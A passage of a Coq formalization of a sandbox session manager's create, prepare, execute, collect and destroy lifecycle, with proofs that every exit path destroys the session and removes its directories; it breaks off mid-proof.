  (Ok {| base_dir := b; sessions_dir := path_join b DEFAULT_SESSIONS_DIR;
         callbacks := cb |},
   with_active_sessions st ∅).

Definition initialize (m : Manager) : M unit := fs_mkdir (sessions_dir m).

(** The expected state [from] only decides whether a warning is logged. *)
Definition transitionState (m : Manager) (s : loc) (from to : SessionState)
  : M unit :=
let* o := read s in
let old_state := state o in
update s (fun o => set_state o to) >>
match onStateChange (callbacks m) with
| Some cb =>
    match cb (set_state o to) old_state to with
    | Some e => throw e
    | None => ret tt
    end
| None => ret tt
end.

Definition register (sid : jsstring) (s : loc) : M unit :=
fun st => (Ok tt, with_active_sessions st (<[sid := s]> (active_sessions st))).

Definition unregister (sid : jsstring) : M unit :=
fun st => (Ok tt, with_active_sessions st (delete sid (active_sessions st))).

Definition createSession (m : Manager) (job : jsstring) (options : SessionOptions)
  : M loc :=
entered (CallCreate job) >>
let* sid := draw_uuid in
let session_dir := path_join (sessions_dir m) (js "session-" ++ sid) in
let wd := path_join session_dir (or_default (work_dir_name options) DEFAULT_WORK_DIR) in
let od := path_join session_dir (or_default (output_dir_name options) DEFAULT_OUTPUT_DIR) in
let cp := path_join session_dir (js "opencode.json") in
let* t := now in
let* s := alloc {| session_id := sid; job_id := job; state := INIT;
                   work_dir := wd; output_dir := od; config_path := cp;
                   created_at := t; started_at := None; finished_at := None;
                   error := None |} in
fs_mkdir wd >>
fs_mkdir od >>
register sid s >>
transitionState m s INIT PREPARING >>
ret s.

Definition prepareSession (m : Manager) (s : loc)
  (fs : list (jsstring * jsstring)) : M unit :=
entered (CallPrepare s) >>
transitionState m s PREPARING PREPARING >>
for_each fs (fun entry =>
  let* o := read s in
  fs_writeFile (path_join (work_dir o) (fst entry)) (snd entry)).

Definition or_empty (x : option jsstring) : jsstring :=
match x with Some v => v | None => [] end.

Record ExecResult : Type := {
  stdout : jsstring;
  stderr : jsstring;
  exit_code : Z
}.

Definition executeCommand (m : Manager) (s : loc) (cmd : jsstring)
  : M ExecResult :=
entered (CallExecute s) >>
transitionState m s PREPARING EXECUTING >>
let* t := now in
update s (fun o => set_started_at o t) >>
import_child_process >>
let* o := read s in
let* r := exec cmd (work_dir o) in
match r with
| ExecReturns out => ret {| stdout := out; stderr := []; exit_code := 0%Z |}
| ExecThrows status out err _ =>
    ret {| stdout := or_empty out; stderr := or_empty err;
           exit_code := match status with
                        | Some n => if (n =? 0)%Z then (-1)%Z else n
                        | None => (-1)%Z
                        end |}
end.

Definition collectArtifacts (m : Manager) (s : loc) : M (list path) :=
entered (CallCollect s) >>
transitionState m s EXECUTING COLLECTING >>
try_catch
  (let* o := read s in fs_readdir (output_dir o))
  (fun _ => ret []).

Definition destroySession (m : Manager) (s : loc) : M unit :=
entered (CallDestroy s) >>
let* o := read s in
if bool_decide (state o = DESTROYED) then ret tt
else
  transitionState m s (state o) DESTROYING >>
  try_catch_finally
    (let* o := read s in
     fs_rm (work_dir o) >>
     fs_rm (output_dir o) >>
     let session_dir := path_dirname (work_dir o) in
     fs_rm session_dir >>
     unregister (session_id o))
    (fun e => update s (fun o => set_error o e))
    (update s (fun o => set_state o DESTROYED)).

Definition destroySessionSafe (m : Manager) (s : loc) : M unit :=
entered (CallDestroySafe s) >>
try_catch (destroySession m s)
  (fun _ => update s (fun o => set_state o DESTROYED)).

Definition getSession (sid : jsstring) : M (option loc) :=
fun st => (Ok (active_sessions st !! sid), st).

Record LifecycleResult : Type := {
  res_session : loc;
  res_stdout : jsstring;
  res_stderr : jsstring;
  res_exit_code : Z;
  res_duration_ms : Z
}.

Definition runSessionLifecycle (input : WorkerJobInput) (options : SessionOptions)
  : M LifecycleResult :=
let* manager := new_manager (opt_base_dir options) {| onStateChange := None |} in
initialize manager >>
let* session := createSession manager (in_job_id input) options in
try_finally
  (prepareSession manager session (in_files input) >>
   let* start_time := now in
   let* r := executeCommand manager session (command input) in
   let* end_time := now in
   collectArtifacts manager session >>
   ret {| res_session := session; res_stdout := stdout r;
          res_stderr := stderr r; res_exit_code := exit_code r;
          res_duration_ms := (end_time - start_time)%Z |})
  (destroySessionSafe manager session).

(** *** Notions the statements below use *)

(** The outcome of the callback on a transition of [o] to [to]. *)
Definition notify (m : Manager) (o : SessionContext) (to : SessionState)
  : outcome unit :=
match onStateChange (callbacks m) with
| Some cb =>
    match cb (set_state o to) (state o) to with
    | Some e => Throw e
    | None => Ok tt
    end
| None => Ok tt
end.

(** The three removals of [destroySession] on the files [f]: the error of
    the first one that throws, if any, and the files left. *)
Definition remove_session_dirs (o : SessionContext) (f : gmap path node)
  : option jsstring * gmap path node :=
match rm_result env (work_dir o) with
| RmThrows e removed => (Some e, remove_some (work_dir o) removed f)
| RmDone =>
    let f1 := remove_tree (work_dir o) f in
    match rm_result env (output_dir o) with
    | RmThrows e removed => (Some e, remove_some (output_dir o) removed f1)
    | RmDone =>
        let f2 := remove_tree (output_dir o) f1 in
        let session_dir := path_dirname (work_dir o) in
        match rm_result env session_dir with
        | RmThrows e removed => (Some e, remove_some session_dir removed f2)
        | RmDone => (None, remove_tree session_dir f2)
        end
    end
end.

(** No removal of [destroySession] throws. *)
Definition deletion_succeeds (o : SessionContext) : Prop :=
rm_result env (work_dir o) = RmDone /\
rm_result env (output_dir o) = RmDone /\
rm_result env (path_dirname (work_dir o)) = RmDone.

(** The state [destroySession] leaves, for a session object [o] that is not
    DESTROYED and a callback that returns. *)
Definition destroyed (s : loc) (o : SessionContext) (st : State) : State :=
let r := remove_session_dirs o (files st) in
let o1 := set_state o DESTROYING in
{| active_sessions :=
     match fst r with
     | None => delete (session_id o) (active_sessions st)
     | Some _ => active_sessions st
     end;
   heap :=
     <[s := set_state (match fst r with
                       | None => o1
                       | Some e => set_error o1 e
                       end) DESTROYED]> (heap st);
   next_loc := next_loc st;
   files := snd r;
   uuids_drawn := uuids_drawn st;
   clock_reads := clock_reads st;
   trace := trace st ++ [CallDestroy s] |}.

(** Session objects persist, with their identity. *)
Definition keeps (st st' : State) : Prop :=
forall l o, heap st !! l = Some o ->
  exists o', heap st' !! l = Some o' /\
             job_id o' = job_id o /\ session_id o' = session_id o.

(** From [st] to [st'] the methods in [e] were entered, in this order, and
    the session objects persisted. *)
Definition grows (e : list call) (st st' : State) : Prop :=
trace st' = trace st ++ e /\ keeps st st'.

(** A computation that, whatever its outcome, enters the methods [e]. *)
Definition Grows {A} (m : M A) (e : list call) : Prop :=
forall st, grows e st (snd (m st)).

Definition same_identity (f : SessionContext -> SessionContext) : Prop :=
forall o, job_id (f o) = job_id o /\ session_id (f o) = session_id o.

(** A computation that can only return a value satisfying [P]. *)
Definition Returns {A} (m : M A) (P : A -> Prop) : Prop :=
forall st a st', m st = (Ok a, st') -> P a.

(** *** Running [destroySession] *)

Lemma transitionState_run m s from to st o :
  heap st !! s = Some o ->
  transitionState m s from to st =
  (notify m o to, with_heap st (<[s := set_state o to]> (heap st))).
Proof.
intros H. unfold transitionState, notify, bind, read, update.
rewrite H. cbn beta iota. rewrite H.
destruct (onStateChange (callbacks m)) as [cb|]; [|reflexivity].
destruct (cb (set_state o to) (state o) to); reflexivity.
Qed.

Lemma update_run s f st o :
  heap st !! s = Some o ->
  update s f st = (Ok tt, with_heap st (<[s := f o]> (heap st))).
Proof. intros H. unfold update. rewrite H. reflexivity. Qed.

Lemma read_run s st o : heap st !! s = Some o -> read s st = (Ok o, st).
Proof. intros H. unfold read. rewrite H. reflexivity. Qed.

Lemma destroy_body_run s st o :
  heap st !! s = Some o ->
  (let* o := read s in
   fs_rm (work_dir o) >>
   fs_rm (output_dir o) >>
   fs_rm (path_dirname (work_dir o)) >>
   unregister (session_id o)) st =
  match fst (remove_session_dirs o (files st)) with
  | None =>
      (Ok tt,
       with_active_sessions
         (with_files st (snd (remove_session_dirs o (files st))))
         (delete (session_id o) (active_sessions st)))
  | Some e => (Throw e, with_files st (snd (remove_session_dirs o (files st))))
  end.
Proof.
intros H. unfold bind at 1. rewrite (read_run _ _ _ H).
unfold remove_session_dirs, bind, fs_rm, unregister.
destruct (rm_result env (work_dir o)); [|reflexivity].
cbn [files with_files].
destruct (rm_result env (output_dir o)); [|reflexivity].
cbn [files with_files].
destruct (rm_result env (path_dirname (work_dir o))); reflexivity.
Qed.

Lemma destroySession_run m s st o :
  heap st !! s = Some o ->
  destroySession m s st =
  if bool_decide (state o = DESTROYED)
  then (Ok tt, with_trace st (trace st ++ [CallDestroy s]))
  else match notify m o DESTROYING with
       | Throw e =>
           (Throw e,
            with_heap (with_trace st (trace st ++ [CallDestroy s]))
              (<[s := set_state o DESTROYING]> (heap st)))
       | Ok _ => (Ok tt, destroyed s o st)
       end.
Proof.
intros H. unfold destroySession.
unfold bind at 1. unfold entered at 1. cbn beta iota.
set (st1 := with_trace st (trace st ++ [CallDestroy s])).
assert (H1 : heap st1 !! s = Some o) by exact H.
unfold bind at 1. rewrite (read_run _ _ _ H1).
destruct (bool_decide (state o = DESTROYED)); [reflexivity|].
unfold bind at 1. rewrite (transitionState_run _ _ _ _ _ _ H1).
destruct (notify m o DESTROYING) as [[]|e]; [|reflexivity].
set (st2 := with_heap st1 (<[s := set_state o DESTROYING]> (heap st1))).
assert (H2 : heap st2 !! s = Some (set_state o DESTROYING))
  by apply lookup_insert_eq.
unfold try_catch_finally, try_finally, try_catch.
rewrite (destroy_body_run _ _ _ H2).
unfold destroyed. cbn [work_dir output_dir session_id set_state files st2 st1
                       with_heap with_trace].
change (remove_session_dirs (set_state o DESTROYING) (files st))
  with (remove_session_dirs o (files st)).
destruct (remove_session_dirs o (files st)) as [[e|] f]; cbn [fst snd].
- erewrite update_run by apply H2.
  erewrite update_run by apply lookup_insert_eq.
  unfold st2, st1.
  cbn [with_heap with_files with_trace heap active_sessions next_loc files
       uuids_drawn clock_reads trace].
  rewrite !insert_insert_eq. reflexivity.
- erewrite update_run by apply H2.
  unfold st2, st1.
  cbn [with_heap with_files with_trace with_active_sessions heap
       active_sessions next_loc files uuids_drawn clock_reads trace].
  rewrite !insert_insert_eq. reflexivity.
Qed.

(** [destroySessionSafe] on a session object: it returns, and the object is
    DESTROYED afterwards. *)
Lemma destroySessionSafe_run m s st o :
  heap st !! s = Some o ->
  exists st' o',
    destroySessionSafe m s st = (Ok tt, st') /\
    heap st' !! s = Some o' /\ state o' = DESTROYED /\
    job_id o' = job_id o /\
    trace st' = trace st ++ [CallDestroySafe s; CallDestroy s].
Proof.
intros H. unfold destroySessionSafe, bind, entered, try_catch.
set (st1 := with_trace st (trace st ++ [CallDestroySafe s])).
assert (H1 : heap st1 !! s = Some o) by exact H.
rewrite (destroySession_run _ _ _ _ H1).
assert (Ht : trace st1 ++ [CallDestroy s] =
             trace st ++ [CallDestroySafe s; CallDestroy s]).
{ unfold st1. cbn [trace with_trace]. rewrite <- app_assoc. reflexivity. }
destruct (bool_decide (state o = DESTROYED)) eqn:Ed.
- apply bool_decide_eq_true in Ed.
  exists (with_trace st1 (trace st1 ++ [CallDestroy s])), o.
  repeat split; assumption.
- destruct (notify m o DESTROYING) as [[]|e].
  + eexists _, _. split; [reflexivity|].
    unfold destroyed. cbn [heap trace]. rewrite lookup_insert_eq.
    split; [reflexivity|]. split; [reflexivity|].
    split; [|assumption].
    destruct (fst (remove_session_dirs o (files st1))); reflexivity.
  + erewrite update_run by apply lookup_insert_eq.
    eexists _, _. split; [reflexivity|].
    cbn [heap trace with_heap with_trace]. rewrite lookup_insert_eq.
    repeat split. assumption.
Qed.

(** *** What every method preserves *)

Lemma keeps_refl st : keeps st st.
Proof. intros l o H. exists o. auto. Qed.

Lemma keeps_trans a b c : keeps a b -> keeps b c -> keeps a c.
Proof.
intros H1 H2 l o H. destruct (H1 l o H) as (o1 & Ho1 & J1 & S1).
destruct (H2 l o1 Ho1) as (o2 & Ho2 & J2 & S2).
exists o2. repeat split; congruence.
Qed.

Lemma keeps_same_heap st st' : heap st' = heap st -> keeps st st'.
Proof. intros E l o H. exists o. rewrite E. auto. Qed.

Lemma grows_trans e1 e2 a b c :
  grows e1 a b -> grows e2 b c -> grows (e1 ++ e2) a c.
Proof.
intros [T1 K1] [T2 K2]. split; [|eapply keeps_trans; eassumption].
rewrite T2, T1, app_assoc. reflexivity.
Qed.

Lemma grows_same e st st' :
  trace st' = trace st ++ e -> heap st' = heap st -> grows e st st'.
Proof. intros T H. split; [assumption | apply keeps_same_heap; assumption]. Qed.

Lemma Grows_ret {A} (a : A) : Grows (ret a) [].
Proof. intros st. apply grows_same; [symmetry; apply app_nil_r | reflexivity]. Qed.

Lemma Grows_throw {A} e : Grows (@throw A e) [].
Proof. intros st. apply grows_same; [symmetry; apply app_nil_r | reflexivity]. Qed.

(** Sequencing after a computation that enters [e], with quiet steps. *)
Lemma Grows_bind {A B} (m : M A) (k : A -> M B) e :
  Grows m e -> (forall a, Grows (k a) []) -> Grows (bind m k) e.
Proof.
intros Hm Hk st. specialize (Hm st). unfold bind.
destruct (m st) as [[a|x] st1]; cbn [snd] in *; [|assumption].
rewrite <- (app_nil_r e). eapply grows_trans; [eassumption | apply Hk].
Qed.

(** Entering a method, then running its body. *)
Lemma Grows_entered {A} c (m : M A) e :
  Grows m e -> Grows (entered c >> m) (c :: e).
Proof.
intros Hm st. unfold bind, entered.
change (c :: e) with ([c] ++ e).
eapply grows_trans; [|apply Hm]. apply grows_same; reflexivity.
Qed.

Lemma Grows_try_catch {A} (body : M A) (h : jsstring -> M A) e :
  Grows body e -> (forall x, Grows (h x) []) -> Grows (try_catch body h) e.
Proof.
intros Hb Hh st. specialize (Hb st). unfold try_catch.
destruct (body st) as [[a|x] st1]; cbn [snd] in *; [assumption|].
rewrite <- (app_nil_r e). eapply grows_trans; [eassumption | apply Hh].
Qed.

Lemma Grows_try_finally {A} (body : M A) (fin : M unit) e :
  Grows body e -> Grows fin [] -> Grows (try_finally body fin) e.
Proof.
intros Hb Hf st. specialize (Hb st). unfold try_finally.
destruct (body st) as [r st1]; cbn [snd] in *.
specialize (Hf st1). destruct (fin st1) as [[[]|x] st2]; cbn [snd] in *;
  rewrite <- (app_nil_r e); eapply grows_trans; eassumption.
Qed.

Lemma Grows_for_each {A} (l : list A) (f : A -> M unit) :
  (forall x, Grows (f x) []) -> Grows (for_each l f) [].
Proof.
intros Hf. induction l as [|x l IH]; cbn [for_each].
- apply Grows_ret.
- apply Grows_bind; [apply Hf | intros _; apply IH].
Qed.

Lemma Grows_read s : Grows (read s) [].
Proof.
intros st. unfold read.
destruct (heap st !! s); apply grows_same; solve [symmetry; apply app_nil_r | reflexivity].
Qed.

Lemma Grows_update s f : same_identity f -> Grows (update s f) [].
Proof.
intros Hf st. unfold update. destruct (heap st !! s) as [o|] eqn:E.
- split; [symmetry; apply app_nil_r|]. intros l o' H. cbn [snd heap with_heap].
  destruct (decide (s = l)) as [->|Hne].
  + rewrite lookup_insert_eq. exists (f o).
    destruct (Hf o) as [J S]. split; [reflexivity|]. split; congruence.
  + rewrite lookup_insert_ne by assumption. exists o'. auto.
- apply grows_same; [symmetry; apply app_nil_r | reflexivity].
Qed.

Lemma same_identity_set_state to : same_identity (fun o => set_state o to).
Proof. intros o. split; reflexivity. Qed.

Lemma same_identity_set_error e : same_identity (fun o => set_error o e).
Proof. intros o. split; reflexivity. Qed.

Lemma same_identity_set_started_at t : same_identity (fun o => set_started_at o t).
Proof. intros o. split; reflexivity. Qed.

Lemma Grows_now : Grows now [].
Proof. intros st. apply grows_same; [symmetry; apply app_nil_r | reflexivity]. Qed.

Lemma Grows_fs_mkdir p : Grows (fs_mkdir p) [].
Proof.
intros st. unfold fs_mkdir.
destruct (mkdir_error env p); [|destruct (existsb _ _)];
  apply grows_same; solve [symmetry; apply app_nil_r | reflexivity].
Qed.

Lemma Grows_fs_writeFile p c : Grows (fs_writeFile p c) [].
Proof.
intros st. unfold fs_writeFile.
destruct (writeFile_error env p);
  [|destruct (negb _); [|destruct (is_dir _ p)]];
  apply grows_same; solve [symmetry; apply app_nil_r | reflexivity].
Qed.

Lemma Grows_fs_rm p : Grows (fs_rm p) [].
Proof.
intros st. unfold fs_rm.
destruct (rm_result env p);
  apply grows_same; solve [symmetry; apply app_nil_r | reflexivity].
Qed.

Lemma Grows_fs_readdir p : Grows (fs_readdir p) [].
Proof.
intros st. unfold fs_readdir.
destruct (readdir_error env p); [|destruct (is_dir _ p)];
  apply grows_same; solve [symmetry; apply app_nil_r | reflexivity].
Qed.

Lemma Grows_import : Grows import_child_process [].
Proof.
unfold import_child_process.
destruct (import_error env); [apply Grows_throw | apply Grows_ret].
Qed.

Lemma Grows_exec c p : Grows (exec c p) [].
Proof.
intros st. unfold exec. destruct (execSync env c p (files st)).
apply grows_same; [symmetry; apply app_nil_r | reflexivity].
Qed.

Lemma Grows_register sid s : Grows (register sid s) [].
Proof. intros st. apply grows_same; [symmetry; apply app_nil_r | reflexivity]. Qed.

Lemma Grows_unregister sid : Grows (unregister sid) [].
Proof. intros st. apply grows_same; [symmetry; apply app_nil_r | reflexivity]. Qed.

Lemma Grows_transitionState m s from to : Grows (transitionState m s from to) [].
Proof.
unfold transitionState.
apply Grows_bind; [apply Grows_read | intros o].
apply Grows_bind; [apply Grows_update, same_identity_set_state | intros _].
destruct (onStateChange (callbacks m)) as [cb|]; [|apply Grows_ret].
destruct (cb _ _ _); [apply Grows_throw | apply Grows_ret].
Qed.

Lemma Grows_prepareSession m s fs : Grows (prepareSession m s fs) [CallPrepare s].
Proof.
unfold prepareSession. apply Grows_entered.
apply Grows_bind; [apply Grows_transitionState | intros _].
apply Grows_for_each. intros entry.
apply Grows_bind; [apply Grows_read | intros o; apply Grows_fs_writeFile].
Qed.

Lemma Grows_executeCommand m s cmd : Grows (executeCommand m s cmd) [CallExecute s].
Proof.
unfold executeCommand. apply Grows_entered.
apply Grows_bind; [apply Grows_transitionState | intros _].
apply Grows_bind; [apply Grows_now | intros t].
apply Grows_bind; [apply Grows_update, same_identity_set_started_at | intros _].
apply Grows_bind; [apply Grows_import | intros _].
apply Grows_bind; [apply Grows_read | intros o].
apply Grows_bind; [apply Grows_exec | intros r].
destruct r; apply Grows_ret.
Qed.

Lemma Grows_collectArtifacts m s : Grows (collectArtifacts m s) [CallCollect s].
Proof.
unfold collectArtifacts. apply Grows_entered.
apply Grows_bind; [apply Grows_transitionState | intros _].
apply Grows_try_catch; [|intros _; apply Grows_ret].
apply Grows_bind; [apply Grows_read | intros o; apply Grows_fs_readdir].
Qed.

(** *** [createSession] and the whole lifecycle *)

Lemma Returns_ret {A} (a : A) (P : A -> Prop) : P a -> Returns (ret a) P.
Proof. intros H st b st' E. injection E as <- _. assumption. Qed.

Lemma Returns_bind {A B} (m : M A) (k : A -> M B) (P : B -> Prop) :
  (forall a, Returns (k a) P) -> Returns (bind m k) P.
Proof.
intros Hk st b st' E. unfold bind in E.
destruct (m st) as [[a|x] st1]; [|discriminate]. eapply Hk. eassumption.
Qed.

Lemma createSession_run m job options st r st' :
  createSession m job options st = (r, st') ->
  trace st' = trace st ++ [CallCreate job] /\
  match r with
  | Ok s => exists o, heap st' !! s = Some o /\ job_id o = job
  | Throw _ => True
  end.
Proof.
unfold createSession.
unfold bind at 1, entered at 1. cbn beta iota.
unfold bind at 1, draw_uuid at 1. cbn beta iota.
unfold bind at 1, now at 1. cbn beta iota.
unfold bind at 1, alloc at 1. cbn beta iota.
cbn [active_sessions heap next_loc files uuids_drawn clock_reads trace
     with_trace].
match goal with
| |- ?rest ?st4 = _ -> _ => set (k := rest); set (st1 := st4)
end.
intros E.
assert (G : Grows k []).
{ unfold k.
  apply Grows_bind; [apply Grows_fs_mkdir | intros _].
  apply Grows_bind; [apply Grows_fs_mkdir | intros _].
  apply Grows_bind; [apply Grows_register | intros _].
  apply Grows_bind; [apply Grows_transitionState | intros _].
  apply Grows_ret. }
assert (R : Returns k (fun x => x = next_loc st)).
{ unfold k. repeat (apply Returns_bind; intros _). apply Returns_ret. reflexivity. }
destruct (G st1) as [T K]. rewrite E in T, K. cbn [snd] in T, K.
split.
- rewrite T, app_nil_r. reflexivity.
- destruct r as [s|x]; [|exact I].
  apply R in E. subst s.
  destruct (K (next_loc st) _ (lookup_insert_eq _ _ _)) as (o' & Ho' & J & _).
  exists o'. split; assumption.
Qed.

(** C5, amended. Once [createSession] has returned a session,
    [runSessionLifecycle] enters [destroySessionSafe] on that session on
    every exit path, exactly once and as the last lifecycle call, and the
    session object is DESTROYED at the end: after [collectArtifacts] when
    the collection is reached (normal completion; a failing command, whose
    exit code is returned, not thrown), directly after [prepareSession]
    when that call throws, and directly after [executeCommand] when that
    call throws; in the last two cases the collection is skipped.  The
    result or the error of the try block is passed on unchanged.  When
    [initialize] or [createSession] throws, that error is passed on and
    no session exists to destroy. *)
Theorem runSessionLifecycle_always_destroys
  (input : WorkerJobInput) (options : SessionOptions) (st : State) :
  let run := runSessionLifecycle input options st in
  let job := in_job_id input in
  match new_manager (opt_base_dir options) {| onStateChange := None |} st with
  | (Throw _, _) => False
  | (Ok m, st0) =>
  match initialize m st0 with
  | (Throw e, st1) => run = (Throw e, st1)
  | (Ok _, st1) =>
  match createSession m job options st1 with
  | (Throw e, st2) => run = (Throw e, st2)
  | (Ok s, st2) =>
    (exists o, heap (snd run) !! s = Some o /\
               job_id o = job /\ state o = DESTROYED) /\
    match prepareSession m s (in_files input) st2 with
    | (Throw e, st3) =>
        run = (Throw e, snd (destroySessionSafe m s st3)) /\
        trace (snd run) = trace st ++
          [CallCreate job; CallPrepare s;
           CallDestroySafe s; CallDestroy s]
    | (Ok _, st3) =>
    match executeCommand m s (command input) (snd (now st3)) with
    | (Throw e, st4) =>
        run = (Throw e, snd (destroySessionSafe m s st4)) /\
        trace (snd run) = trace st ++
          [CallCreate job; CallPrepare s; CallExecute s;
           CallDestroySafe s; CallDestroy s]
    | (Ok res, st4) =>
    match collectArtifacts m s (snd (now st4)) with
    | (Throw e, st5) =>
        run = (Throw e, snd (destroySessionSafe m s st5)) /\
        trace (snd run) = trace st ++
          [CallCreate job; CallPrepare s; CallExecute s; CallCollect s;
           CallDestroySafe s; CallDestroy s]
    | (Ok _, st5) =>
        run = (Ok {| res_session := s; res_stdout := stdout res;
                     res_stderr := stderr res;
                     res_exit_code := exit_code res;
                     res_duration_ms :=
                       (Date_now env (clock_reads st4)
                        - Date_now env (clock_reads st3))%Z |},
               snd (destroySessionSafe m s st5)) /\
        trace (snd run) = trace st ++
          [CallCreate job; CallPrepare s; CallExecute s; CallCollect s;
           CallDestroySafe s; CallDestroy s]
    end end end end end end.
Proof.
cbv zeta.
destruct (runSessionLifecycle input options st) as [r st'] eqn:E.
cbn [fst snd]. revert E. unfold runSessionLifecycle.
unfold bind at 1. unfold new_manager. cbv beta iota zeta.
set (m := {| base_dir := _; sessions_dir := _; callbacks := _ |}).
set (st0 := with_active_sessions st ∅).
assert (T0 : trace st0 = trace st) by reflexivity.
unfold bind at 1.
pose proof (Grows_fs_mkdir (sessions_dir m) st0) as [T1 _].
unfold initialize.
destruct (fs_mkdir (sessions_dir m) st0) as [[[]|e] st1]; cbn [fst snd] in *;
  [|intros E; symmetry; exact E].
rewrite app_nil_r in T1.
unfold bind at 1.
destruct (createSession m (in_job_id input) options st1) as [[s|e] st2] eqn:EC;
  apply createSession_run in EC as [T2 HC]; [|intros E; symmetry; exact E].
destruct HC as (o2 & Ho2 & J2).
assert (T : trace st2 = trace st ++ [CallCreate (in_job_id input)])
  by congruence.
clear T0 T1 T2.
unfold try_finally.
(* the try block, call by call *)
unfold bind at 1.
pose proof (Grows_prepareSession m s (in_files input) st2) as [TP KP].
destruct (prepareSession m s (in_files input) st2) as [[[]|e] st3];
  cbn [fst snd] in *;
  destruct (KP s o2 Ho2) as (o3 & Ho3 & J3 & _).
2:{ destruct (destroySessionSafe_run m s st3 o3 Ho3)
      as (st4 & o' & ED & Ho' & S' & J' & T').
    rewrite ED. cbn [fst snd]. intros E. injection E as <- <-. split.
    - exists o'. split; [assumption|]. split; [congruence | assumption].
    - split; [reflexivity|].
      rewrite T', TP, T, <- !app_assoc. reflexivity. }
unfold bind at 1, now at 1. cbn beta iota.
unfold bind at 1.
match goal with
| |- context [executeCommand m s (command input) ?x] => set (st3' := x)
end.
assert (Ho3' : heap st3' !! s = Some o3) by exact Ho3.
assert (T3' : trace st3' = trace st2 ++ [CallPrepare s]) by exact TP.
pose proof (Grows_executeCommand m s (command input) st3') as [TE KE].
change (snd (now st3)) with st3'.
destruct (executeCommand m s (command input) st3') as [[res|e] st4];
  cbn [fst snd] in *;
  destruct (KE s o3 Ho3') as (o4 & Ho4 & J4 & _).
2:{ destruct (destroySessionSafe_run m s st4 o4 Ho4)
      as (st5 & o' & ED & Ho' & S' & J' & T').
    rewrite ED. cbn [fst snd]. intros E. injection E as <- <-. split.
    - exists o'. split; [assumption|]. split; [congruence | assumption].
    - split; [reflexivity|].
      rewrite T', TE, T3', T, <- !app_assoc. reflexivity. }
unfold bind at 1, now at 1. cbn beta iota.
unfold bind at 1.
match goal with
| |- context [collectArtifacts m s ?x] => set (st4' := x)
end.
assert (Ho4' : heap st4' !! s = Some o4) by exact Ho4.
assert (T4' : trace st4' = trace st2 ++ [CallPrepare s; CallExecute s]).
{ change (trace st4') with (trace st4).
  rewrite TE, T3', <- app_assoc. reflexivity. }
pose proof (Grows_collectArtifacts m s st4') as [TC KC].
change (snd (now st4)) with st4'.
destruct (collectArtifacts m s st4') as [[arts|e] st5];
  cbn [fst snd] in *;
  destruct (KC s o4 Ho4') as (o5 & Ho5 & J5 & _);
  destruct (destroySessionSafe_run m s st5 o5 Ho5)
    as (st6 & o' & ED & Ho' & S' & J' & T');
  unfold ret; rewrite ED; cbn [fst snd]; intros E; injection E as <- <-;
  (split;
    [exists o'; split; [assumption|]; split; [congruence | assumption]
    |split; [reflexivity|];
     rewrite T', TC, T4', T, <- !app_assoc; reflexivity]).
Qed.

(** *** Claims about [destroySession] and [destroySessionSafe] *)

Lemma is_prefix_refl p : is_prefix p p = true.
Proof.
induction p as [|a p IH]; [reflexivity|]. cbn [is_prefix].
unfold jseqb. rewrite bool_decide_eq_true_2 by reflexivity. assumption.
Qed.

Lemma is_prefix_dirname p : is_prefix (path_dirname p) p = true.
Proof.
unfold path_dirname. induction p as [|a p IH]; [reflexivity|].
destruct p as [|b p]; [reflexivity|].
change (removelast (a :: b :: p)) with (a :: removelast (b :: p)).
cbn [is_prefix]. unfold jseqb.
rewrite bool_decide_eq_true_2 by reflexivity. assumption.
Qed.

Lemma remove_tree_below p f q :
  is_prefix p q = true -> remove_tree p f !! q = None.
Proof.
intros H. unfold remove_tree. apply map_lookup_filter_None. right.
intros x _. cbn. congruence.
Qed.

Lemma remove_tree_absent p f q : f !! q = None -> remove_tree p f !! q = None.
Proof.
intros H. unfold remove_tree. apply map_lookup_filter_None. left. assumption.
Qed.

Lemma remove_session_dirs_ok o f :
  deletion_succeeds o ->
  remove_session_dirs o f =
  (None, remove_tree (path_dirname (work_dir o))
           (remove_tree (output_dir o) (remove_tree (work_dir o) f))).
Proof.
intros (H1 & H2 & H3). unfold remove_session_dirs. rewrite H1, H2, H3.
reflexivity.
Qed.

(** C3, amended. After [destroySession(session)] returns for a session
    that was not DESTROYED yet, and when no removal threw, the session is
    DESTROYED, absent from the registry, and its work_dir, output_dir and
    session directory do not exist. *)
Theorem destroySession_removes_session
  (m : Manager) (s : loc) (st st' : State) (o : SessionContext) :
  heap st !! s = Some o ->
  state o <> DESTROYED ->
  deletion_succeeds o ->
  destroySession m s st = (Ok tt, st') ->
  (exists o', heap st' !! s = Some o' /\ state o' = DESTROYED) /\
  active_sessions st' !! session_id o = None /\
  files st' !! work_dir o = None /\
  files st' !! output_dir o = None /\
  files st' !! path_dirname (work_dir o) = None.
Proof.
intros Ho Hs Hd E. rewrite (destroySession_run _ _ _ _ Ho) in E.
rewrite bool_decide_eq_false_2 in E by assumption.
destruct (notify m o DESTROYING); [|discriminate].
injection E as <-. unfold destroyed.
rewrite (remove_session_dirs_ok _ _ Hd).
cbn [fst snd heap active_sessions files].
split; [|split; [|split; [|split]]].
- eexists. split; [apply lookup_insert_eq | reflexivity].
- apply lookup_delete_eq.
- apply remove_tree_below, is_prefix_dirname.
- apply remove_tree_absent, remove_tree_below, is_prefix_refl.
- apply remove_tree_below, is_prefix_refl.
Qed.

(** C6. For a session object: whenever [destroySession] returns, the
    session is DESTROYED; when a removal throws [e] (and the state-change
    callback returns), [destroySession] still returns, the session is
    DESTROYED and [session.error] holds [e]; and [destroySessionSafe]
    returns in every case, whatever the callback and the removals do,
    leaving the session DESTROYED. *)
Theorem destroySession_always_DESTROYED
  (m : Manager) (s : loc) (st : State) (o : SessionContext) :
  heap st !! s = Some o ->
  (forall st', destroySession m s st = (Ok tt, st') ->
     exists o', heap st' !! s = Some o' /\ state o' = DESTROYED) /\
  (forall e, state o <> DESTROYED -> notify m o DESTROYING = Ok tt ->
     fst (remove_session_dirs o (files st)) = Some e ->
     exists st' o', destroySession m s st = (Ok tt, st') /\
       heap st' !! s = Some o' /\ state o' = DESTROYED /\ error o' = Some e) /\
  (exists st' o', destroySessionSafe m s st = (Ok tt, st') /\
     heap st' !! s = Some o' /\ state o' = DESTROYED).
Proof.
intros Ho. split; [|split].
- intros st' E. rewrite (destroySession_run _ _ _ _ Ho) in E.
  destruct (bool_decide (state o = DESTROYED)) eqn:Ed.
  + apply bool_decide_eq_true in Ed. injection E as <-.
    exists o. split; assumption.
  + destruct (notify m o DESTROYING); [|discriminate].
    injection E as <-. unfold destroyed. cbn [heap].
    eexists. split; [apply lookup_insert_eq | reflexivity].
- intros e Hs Hn He. rewrite (destroySession_run _ _ _ _ Ho).
  rewrite bool_decide_eq_false_2 by assumption. rewrite Hn.
